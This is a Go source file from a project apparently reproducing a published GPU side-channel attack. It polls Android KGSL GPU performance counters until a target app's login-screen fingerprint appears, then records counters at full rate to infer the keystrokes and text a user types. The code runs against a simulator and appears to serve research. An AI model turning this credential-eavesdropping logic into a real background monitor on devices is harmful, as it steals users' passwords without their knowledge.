@@ -1,0 +1,162 @@
+package attack
+
+import (
+	"math"
+
+	"gpuleak/internal/kgsl"
+	"gpuleak/internal/sim"
+	"gpuleak/internal/trace"
+)
+
+// Figure 4's Online Phase begins with a monitoring service that runs in
+// the background and watches for the launch of a target application; only
+// then does the attacker start full-rate counter polling and inference.
+// The paper cites procfs-based app-detection techniques [14,15,49,50] for
+// this step and notes they reach >90% accuracy over >100 apps; here the
+// launch is detected from the GPU counters themselves: an app launch is a
+// full-screen first render whose counter fingerprint matches one of the
+// preloaded per-configuration models. Low-duty polling while waiting
+// keeps the background service cheap (§7.6).
+
+// MonitorOptions tunes the launch watcher.
+type MonitorOptions struct {
+	// IdleInterval is the low-duty polling period while waiting for a
+	// launch (default 4x the eavesdropping interval).
+	IdleInterval sim.Time
+	// Tolerance is the relative fingerprint mismatch accepted as a launch.
+	// Different login screens sit ~2-4% apart in relative fingerprint
+	// distance while a re-render of the same screen stays within ~0.1%,
+	// so the default is 0.01.
+	Tolerance float64
+}
+
+func (o MonitorOptions) withDefaults(interval sim.Time) MonitorOptions {
+	if o.IdleInterval == 0 {
+		o.IdleInterval = 4 * interval
+	}
+	if o.Tolerance == 0 {
+		o.Tolerance = 0.01
+	}
+	return o
+}
+
+// MonitorResult reports a monitored eavesdropping run.
+type MonitorResult struct {
+	// LaunchDetectedAt is when the monitor saw the target app start.
+	LaunchDetectedAt sim.Time
+	// Detected reports whether a launch fingerprint fired at all.
+	Detected bool
+	// IdleReads counts the low-duty polls spent waiting.
+	IdleReads int
+	// Result is the credential inference from the detection point on
+	// (nil when no launch was detected).
+	Result *Result
+}
+
+// MonitorAndEavesdrop runs the full Figure-4 online phase: low-duty
+// polling until a target-app launch fingerprint appears, then full-rate
+// eavesdropping until end.
+func (a *Attack) MonitorAndEavesdrop(f *kgsl.File, start, end sim.Time, opts MonitorOptions) (*MonitorResult, error) {
+	interval := a.Interval
+	if interval <= 0 {
+		interval = DefaultInterval
+	}
+	opts = opts.withDefaults(interval)
+
+	s, err := NewSampler(f, opts.IdleInterval)
+	if err != nil {
+		return nil, err
+	}
+
+	out := &MonitorResult{}
+	prev, err := f.ReadSelected(start)
+	if err != nil {
+		return nil, err
+	}
+	// Recent non-zero deltas; a launch frame may split across two idle
+	// reads, so suffix sums of the last few deltas are matched too.
+	type recent struct {
+		at sim.Time
+		v  trace.Vec
+	}
+	var win []recent
+
+	var detected *Model
+	var detectedAt sim.Time
+	for t := start + opts.IdleInterval; t <= end; t += opts.IdleInterval {
+		cur, err := f.ReadSelected(t)
+		if err != nil {
+			return nil, err
+		}
+		out.IdleReads++
+		var d trace.Vec
+		changed := false
+		for i := range d {
+			d[i] = float64(cur[i]) - float64(prev[i])
+			if d[i] != 0 {
+				changed = true
+			}
+		}
+		prev = cur
+		if !changed {
+			continue
+		}
+		win = append(win, recent{at: t, v: d})
+		if len(win) > 3 {
+			win = win[1:]
+		}
+		// Match every suffix sum against every model fingerprint.
+		var sum trace.Vec
+		for i := len(win) - 1; i >= 0; i-- {
+			if win[i].at < t-2*opts.IdleInterval-sim.Millisecond {
+				break
+			}
+			sum = sum.Add(win[i].v)
+			for _, m := range a.Models {
+				if launchMatch(m, sum) <= opts.Tolerance {
+					detected = m
+					detectedAt = t
+					break
+				}
+			}
+			if detected != nil {
+				break
+			}
+		}
+		if detected != nil {
+			break
+		}
+	}
+	if detected == nil {
+		return out, nil
+	}
+	out.Detected = true
+	out.LaunchDetectedAt = detectedAt
+
+	// Full-rate eavesdropping from the detection point.
+	s.Interval = interval
+	tr, err := s.Collect(detectedAt, end)
+	if err != nil {
+		return nil, err
+	}
+	eng := NewEngine(detected, interval, a.Options)
+	eng.ProcessAll(tr.Deltas())
+	out.Result = &Result{
+		Model:           detected.Key,
+		Keys:            eng.Keys(),
+		Text:            eng.Text(),
+		Stats:           eng.Stats(),
+		EstimatedLength: eng.EstimatedLength(),
+	}
+	return out, nil
+}
+
+// launchMatch scores a candidate launch delta against a model's
+// fingerprint: relative weighted distance.
+func launchMatch(m *Model, v trace.Vec) float64 {
+	norm := m.Launch.Norm(m.Weights)
+	if norm == 0 {
+		return math.Inf(1)
+	}
+	return v.Dist(m.Launch, m.Weights) / norm
+}
